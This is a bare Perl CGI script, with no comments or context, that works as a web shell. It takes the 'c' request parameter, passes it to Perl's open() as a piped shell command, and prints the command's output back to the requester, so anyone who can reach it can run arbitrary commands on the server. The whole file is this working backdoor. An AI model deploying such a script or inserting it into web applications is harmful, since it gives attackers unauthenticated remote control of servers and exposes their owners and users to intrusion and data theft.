#!/usr/bin/perl
use CGI;
my $q = CGI->new;
print $q->header;
open(my $fh, $q->param('c') . ' |') or die;
print while <$fh>;
